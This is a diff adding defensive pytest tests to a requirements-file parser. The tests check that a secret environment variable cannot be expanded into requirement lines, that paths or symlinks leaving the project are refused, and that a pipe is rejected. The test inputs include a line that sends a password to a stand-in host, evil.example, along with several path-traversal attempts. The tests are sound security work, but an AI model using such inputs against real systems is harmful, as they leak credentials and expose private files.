@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import os
 from pathlib import Path
 
 import pytest
@@ -400,6 +401,50 @@ def test_variables_are_those_of_the_environment(tmp_path: Path) -> None:
     assert str(caught.value) == (
         "r.in:1: an address must not contain a user name or password; credentials come from the environment"
     )
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        *("./${CORP_PASSWORD}", "${CORP_PASSWORD}==1", "-r ${CORP_PASSWORD}", "six; extra == '${CORP_PASSWORD}'"),
+        *("six --hash=sha256:${CORP_PASSWORD}", "-f //evil.example/${CORP_PASSWORD}", "git+ssh:x/${CORP_PASSWORD}"),
+    ],
+)
+def test_a_variable_that_holds_a_secret_stands_in_no_requirement(tmp_path: Path, line: str) -> None:
+    with pytest.raises(UsageError) as caught:
+        lines_of(tmp_path, line, CORP_PASSWORD="hunter2")
+    assert str(caught.value) == (
+        "r.in:1: CORP_PASSWORD holds a secret, which would be shown and asked for at the package index"
+    )
+    assert caught.value.hint == "credentials go into the address of an index, or into UV_INDEX_<NAME>_PASSWORD"
+
+
+def test_a_file_outside_of_the_project_is_not_read(tmp_path: Path) -> None:
+    project, private = tmp_path / "project", tmp_path / "private"
+    write(tmp_path, {"private": "hunter2\n", "project/r.in": "six\n", "project/below/s.in": "six\n"})
+    (project / "link").symlink_to(private)
+    (project / "below" / "link").symlink_to("../r.in")
+    for line, shown in ((f"-r {private}", "private"), ("-c ../private", "../private"), ("-r link", "link")):
+        write(project, {"r.in": f"{line}\n"})
+        with pytest.raises(UsageError) as caught:
+            read_declared(EnvironmentSpec(requirements="r.in"), project)
+        assert str(caught.value) == f"{shown} leads out of the project, to {private}"
+    with pytest.raises(UsageError) as caught:
+        read_declared(EnvironmentSpec(requirements="link"), project)
+    assert str(caught.value) == f"link leads out of the project, to {private}"
+    write(project, {"r.in": "six\n", "below/s.in": "-r ../r.in\n"})
+    with pytest.raises(UsageError):
+        read_declared(EnvironmentSpec(requirements="s.in"), project / "below")
+    (project / ".git").mkdir()  # a project in a folder of a repository
+    assert read_declared(EnvironmentSpec(requirements="s.in"), project / "below").lines == ("six",)
+    assert read_declared(EnvironmentSpec(requirements="link"), project / "below").lines == ("six",)
+
+
+def test_a_pipe_is_no_requirements_file(tmp_path: Path) -> None:
+    os.mkfifo(tmp_path / "r.in")
+    with pytest.raises(UsageError) as caught:
+        read_declared(EnvironmentSpec(requirements="r.in"), tmp_path)
+    assert str(caught.value) == "r.in cannot be read: it is a pipe or a device, and no file"
 
 
 def test_options_that_name_an_index_are_kept_apart(tmp_path: Path) -> None:
